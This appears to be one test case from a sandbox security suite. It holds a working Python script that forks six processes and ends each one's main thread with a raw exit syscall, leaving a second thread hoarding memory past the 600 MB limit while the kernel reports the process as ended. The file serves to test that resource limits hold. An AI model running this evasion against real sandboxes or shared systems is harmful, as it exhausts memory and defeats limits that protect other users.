# attack: memory_behind_threads_whose_first_has_ended
# kind: exhaust
# tries: fills the memory with several processes, in each of which only the second thread lives on: the kernel shows the process as ended
# seen: the processes of one submission hold twice the limit of 600 MB at the same time
# deserves: nothing
# extra: before 3.2a
# %%
import ctypes, os, threading, time

counted, tell = os.pipe()

def fill():
    hoard = []
    time.sleep(0.1)
    while len(hoard) < 30:
        hoard.append(bytearray(b"x") * (10 * 2**20))
        os.write(tell, b"x")
    time.sleep(20)

for _ in range(6):
    if os.fork() == 0:
        threading.Thread(target=fill).start()
        ctypes.CDLL(None).syscall(60, 0)
os.set_blocking(counted, False)
held = 0

def look(seconds):
    global held
    ends = time.monotonic() + seconds
    while time.monotonic() < ends:
        time.sleep(0.1)
        try:
            held += 10 * len(os.read(counted, 1000))
        except BlockingIOError:
            pass
        if held > 1_200:
            raise RuntimeError(f"FELL: {held} MB of memory in all processes")
# extra: before 3.2a
# %%
look(2.5)
# extra: before 3.2a
# %%
look(2.5)
# extra: before 3.2a
# %%
look(2.5)
# extra: before 3.2a
# %%
look(2.5)
